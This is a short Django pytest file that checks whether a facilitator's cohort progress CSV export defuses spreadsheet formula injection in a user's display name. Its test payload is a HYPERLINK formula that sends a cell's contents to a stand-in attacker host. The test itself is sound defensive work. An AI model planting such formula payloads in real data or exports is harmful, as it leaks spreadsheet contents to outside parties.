"""The facilitator's progress CSV opens in a spreadsheet without running anyone's formula."""

from __future__ import annotations

import csv
import io

import pytest

from accounts import services as account_services
from cohorts import services

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?d="&B2,"Open")'


def test_progress_csv_neutralises_a_formula_display_name(client, facilitator, cohort, coach):
    account_services.profile_update(user=coach, display_name=EVIL)
    services.cohort_enroll(cohort=cohort, user=coach)
    client.force_login(facilitator)
    response = client.get(f"/cohorts/{cohort.pk}/dashboard/progress.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'" + EVIL
    assert rows[1][3:6] == ["0", "6", "0"]  # the numbers are still bare numbers
